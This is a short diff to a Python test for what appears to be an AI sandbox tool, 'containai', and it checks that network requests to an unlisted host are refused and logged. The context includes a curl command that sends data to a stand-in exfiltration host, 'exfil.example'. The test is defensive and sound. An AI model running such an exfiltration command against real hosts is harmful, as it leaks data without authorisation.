@@ -263,6 +263,8 @@ def test_an_unlisted_host_is_refused_and_logged(product: Product) -> None:
         "curl -s -o /dev/null -w '%{http_code}\\n' 'http://exfil.example/?data=1'"
     )
     assert ran.printed.split() == ["403", "403"], ran.stderr
+    look = f"containai log {ran.result['session']} --kind network"
+    assert f"containai: 1 host was refused: exfil.example; look: {look}" in ran.stderr.splitlines()
     refused = [e for e in product.events(ran, "network") if e.get("host") == "exfil.example"]
     assert [(e["method"], e["port"], e["verdict"]) for e in refused] == [("CONNECT", 443, "deny"), ("GET", 80, "deny")]
 
